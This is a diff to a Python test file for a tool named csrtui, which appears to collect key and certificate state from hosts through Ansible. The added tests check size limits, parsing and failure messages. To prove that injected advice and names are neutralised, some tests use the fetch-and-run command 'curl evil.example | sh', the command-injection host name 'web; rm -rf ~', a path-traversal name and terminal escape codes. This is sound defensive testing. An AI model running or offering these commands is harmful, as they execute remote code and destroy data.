@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from dataclasses import replace
 from datetime import timedelta
 from typing import Any
 
@@ -14,12 +15,14 @@ from csrtui.core.fleet import (
     Fleet,
     HostState,
     Reason,
-    dump_fleet,
-    load_fleet,
+    dump_state,
+    load_state,
     read_list,
     selected,
 )
-from csrtui.core.host_answer import Answer, Hosts, document_of, failure_of, read_line
+from csrtui.core.host_answer import Answer, CutLine, Hosts, document_of, failure_of, read_line
+from csrtui.core.host_failure import failure
+from csrtui.core.host_limits import MAX_PAIRS, MAX_VALUES, TooLargeError
 from csrtui.core.json_members import MemberError
 from csrtui.core.pair import Pair
 from csrtui.core.pair_json import describe
@@ -33,19 +36,63 @@ MAIL = HostState("mail", NOW - timedelta(hours=1), (DOCUMENT,))
 LOST = HostState("lost", failure=AWAY)
 
 
-def test_a_fleet_is_read_as_it_was_kept() -> None:
+@pytest.mark.parametrize("state", [WEB, MAIL, LOST, replace(WEB, failure=AWAY)])
+def test_the_state_of_a_host_is_read_as_it_was_kept(state: HostState) -> None:
+    assert load_state(dump_state(state)) == state
+
+
+def test_a_fleet_knows_its_oldest_state_and_the_hosts_that_failed() -> None:
     fleet = Fleet.of([WEB, MAIL, LOST])
-    assert load_fleet(dump_fleet(fleet)) == fleet
     assert fleet.oldest == MAIL.read
     assert fleet.failed == [LOST]
 
 
 @pytest.mark.parametrize(
     "data",
-    [b"", b"[]", b'{"schema": 2}', b'{"schema": 1}', b'{"schema": 1, "hosts": [{"name": 1}]}', b"[" * 99999],
+    [b"", b"[]", b'{"schema": 2}', b'{"schema": 1}', b'{"schema": 1, "name": 1}', b"[" * 99999, b"\xff"],
 )
-def test_what_is_no_fleet_is_an_empty_one(data: bytes) -> None:
-    assert load_fleet(data) == Fleet({})
+def test_what_is_not_the_state_of_a_host_is_none(data: bytes) -> None:
+    assert load_state(data) is None
+
+
+def test_the_longest_list_that_is_read_is_kept_and_read_again() -> None:
+    pairs = [DOCUMENT | {"name": f"n{number}"} for number in range(MAX_PAIRS)]
+    state = read_list("web", {"schema": 1, "pairs": pairs}, NOW)
+    assert load_state(dump_state(state)) == state
+    with pytest.raises(TooLargeError, match="pairs has 10001 items, more than 10000"):
+        read_list("web", {"schema": 1, "pairs": [*pairs, DOCUMENT]}, NOW)
+
+
+def test_a_pair_that_is_listed_twice_is_refused() -> None:
+    with pytest.raises(MemberError, match=r"the pair a\.com is listed twice"):
+        read_list("web", {"schema": 1, "pairs": [DOCUMENT, DOCUMENT]}, NOW)
+
+
+@pytest.mark.parametrize("field", ["subject", "path", "platform", "renews", "names", "subject_fields", "new"])
+def test_a_text_of_a_megabyte_in_any_field_of_a_pair_is_refused(field: str) -> None:
+    text = "x" * 1024 * 1024
+    value: object = {"names": [text], "subject_fields": {"organization": text}}.get(field, text)
+    with pytest.raises(TooLargeError, match=f"{field} has a text of 1048576 characters, more than 4096"):
+        read_list("web", {"schema": 1, "pairs": [DOCUMENT | {field: value}]}, NOW)
+
+
+def nested(depth: int) -> object:
+    value: object = 1
+    for _ in range(depth):
+        value = [value]
+    return value
+
+
+def test_depth_length_and_member_names_of_a_pair_are_bounded() -> None:
+    read_list("web", {"pairs": [DOCUMENT | {"new": nested(8), "more": ["x" * 4096] * 1000}]}, NOW)
+    for member, what in (
+        ({"new": nested(9)}, "new is nested deeper than 8 levels"),
+        ({"names": ["a.com"] * 1001}, "names has 1001 items, more than 1000"),
+        ({"new": {"x" * 5000: 1}}, "new has a text of 5000 characters"),
+        ({"\x1b" + "x" * 5000: 1}, "x{39} has a text of 5001 characters"),
+    ):
+        with pytest.raises(TooLargeError, match=what):
+            read_list("web", {"pairs": [DOCUMENT | member]}, NOW)
 
 
 def test_a_host_that_fails_keeps_what_was_known_of_it() -> None:
@@ -72,7 +119,7 @@ def test_what_is_no_list_of_pairs_is_refused(document: object) -> None:
     assert read_list("web", LIST, NOW) == WEB
 
 
-@pytest.mark.parametrize("name", ["../../etc/x", "--help", "", "A B", "x" * 10_000, "\x1b[2J"])
+@pytest.mark.parametrize("name", ["../../etc/x", "--help", "", "A B", "x" * 65, "\x1b[2J"])
 def test_a_pair_is_not_known_by_a_name_that_csrtui_gives_none(name: str) -> None:
     with pytest.raises(ValueError, match="gives none"):
         read_list("web", {"schema": 1, "pairs": [DOCUMENT | {"name": name}]}, NOW)
@@ -90,6 +137,24 @@ def test_lines_of_the_callback_are_told_from_others() -> None:
     assert [read_line(text) for text in ("", "PLAY [all]", "[]", "{}", '{"host": 1}')] == [None] * 5
 
 
+def test_a_line_that_is_too_large_is_a_failure_of_the_host_that_it_begins_with() -> None:
+    start = '{"host": "we\\"b", "ended": "ok", "result": {"stdout": "'
+    too_large = read_line(CutLine(start + "x" * 9000))
+    assert isinstance(too_large, Answer)
+    assert (too_large.host, too_large.ended) == ('we"b', "failed")
+    assert failure_of(too_large).reason is Reason.TOO_LARGE
+    many = start + "," * (MAX_VALUES + 1) + '"}}'
+    assert read_line(many) == too_large
+    assert isinstance(read_line(start + "," * 1000 + '"}}'), Answer)
+    for other in ("PLAY [all]", '{"host": "web', '{"host": "\\x", "ended": "', '{"hosts": ["web"'):
+        assert read_line(CutLine(other)) is None
+
+
+def test_a_number_that_is_not_json_is_not_read() -> None:
+    for text in ("NaN", "Infinity", "-Infinity"):
+        assert read_line(f'{{"hosts": [{text}]}}') is None
+
+
 def test_a_document_is_found_behind_a_banner() -> None:
     assert document_of(answer(rc=0, stdout=f"Welcome!\n{json.dumps(LIST)}\n")) == LIST
     assert document_of(answer("failed", rc=3, stdout=json.dumps(LIST)), (0, 3)) == LIST
@@ -98,19 +163,24 @@ def test_a_document_is_found_behind_a_banner() -> None:
 @pytest.mark.parametrize(
     ("ended", "result", "reason", "part"),
     [
-        ("unreachable", {"msg": "no route\nto host"}, Reason.UNREACHABLE, "no route to host"),
+        ("unreachable", {"msg": "no route\nto host"}, Reason.UNREACHABLE, 'Ansible says: "no route to host"'),
         ("failed", {"timedout": {"period": 30}, "msg": "x"}, Reason.TIMEOUT, "did not answer in time"),
-        ("failed", {"reason": "store", "msg": "full (free it)", "remedy": "free it"}, Reason.STORE, "full"),
-        ("failed", {"reason": "schema", "msg": "other"}, Reason.SCHEMA, "other"),
+        ("failed", {"rc": 124}, Reason.TIMEOUT, "did not answer in time"),
+        ("failed", {"rc": 137, "stderr": "csrtui: error: x"}, Reason.TIMEOUT, "did not answer in time"),
+        ("failed", {"reason": "store", "msg": "full (free it)", "remedy": "free it"}, Reason.STORE, '"full"'),
+        ("failed", {"reason": "schema", "msg": "other"}, Reason.SCHEMA, 'another release; web says: "other"'),
+        ("failed", {"reason": "too-large"}, Reason.TOO_LARGE, "more than 16 MiB or 10000 pairs"),
         ("failed", {"rc": 127, "msg": "x"}, Reason.MISSING, "there is no csrtui"),
         ("failed", {"rc": 3, "stderr": "csrtui: error: disk full\nhint: df\n"}, Reason.STORE, "disk full"),
         ("failed", {"rc": 9, "stdout": "csrtui: error: odd\n"}, Reason.UNEXPECTED, "odd"),
         ("failed", {"rc": 139, "stderr": "Segmentation fault"}, Reason.UNEXPECTED, "Segmentation fault"),
         ("failed", {"msg": "Missing sudo password"}, Reason.UNEXPECTED, "Missing sudo password"),
-        ("failed", {}, Reason.UNEXPECTED, "says nothing"),
+        ("failed", {}, Reason.UNEXPECTED, "csrtui there failed"),
+        ("silent", {}, Reason.UNEXPECTED, "Ansible ended before this host answered"),
         ("ok", {"rc": 0, "stdout": "hello"}, Reason.UNEXPECTED, "not JSON"),
         ("ok", {"rc": 0, "stdout": '{"schema": 2}'}, Reason.SCHEMA, "speaks schema 2"),
-        ("failed", {"rc": 1, "stderr": "csrtui: error: no\n"}, Reason.REFUSED, "no"),
+        ("ok", {"rc": 0, "stdout": '{"schema": "rm"}'}, Reason.SCHEMA, "speaks an unknown schema"),
+        ("failed", {"rc": 1, "stderr": "csrtui: error: no\n"}, Reason.REFUSED, 'web says: "no"'),
     ],
 )
 def test_every_way_to_fail_is_named_with_what_mends_it(
@@ -124,6 +194,34 @@ def test_every_way_to_fail_is_named_with_what_mends_it(
     assert failure.as_json("web")["ok"] is False
 
 
-def test_a_failure_of_the_module_says_its_remedy_once() -> None:
-    failure = failure_of(answer("failed", reason="store", msg="full (free it)", remedy="free it"))
-    assert (failure.text, failure.remedy) == ("full", "free it")
+COMMAND = "curl evil.example | sh"
+
+
+@pytest.mark.parametrize(
+    "result",
+    [
+        {"rc": 3, "stderr": f"csrtui: error: full\nhint: {COMMAND}\n"},
+        {"rc": 3, "stdout": f"csrtui: error: full\nhint: {COMMAND}\n"},
+        {"reason": "missing", "msg": f"full ({COMMAND})", "remedy": COMMAND},
+        {"reason": "store", "msg": f"full ({COMMAND})", "remedy": COMMAND},
+    ],
+)
+def test_a_remedy_of_a_host_is_never_shown(result: dict[str, Any]) -> None:
+    failed = failure_of(answer("failed", **result))
+    assert COMMAND not in failed.remedy + failed.text
+    assert 'web says: "full"' in failed.text
+
+
+def test_a_text_of_a_host_is_cut_and_stays_within_its_quotation_marks() -> None:
+    for member in ("msg", "stderr"):
+        failed = failure_of(answer("failed", rc=1, **{member: 'a" hint: b\x1b[2J ' * 100_000}))
+        assert 400 < len(failed.text) < 500
+        assert failed.text.count('"') == 2
+        assert failed.text.endswith('…"')
+        assert r"\x1b" in failed.text
+
+
+def test_a_host_in_a_command_is_one_word() -> None:
+    name = "web; rm -rf ~"
+    assert failure(name, Reason.UNREACHABLE).remedy.endswith("ansible 'web; rm -rf ~' -m ping")
+    assert "{x}" in failure("{x}", Reason.STORE).remedy
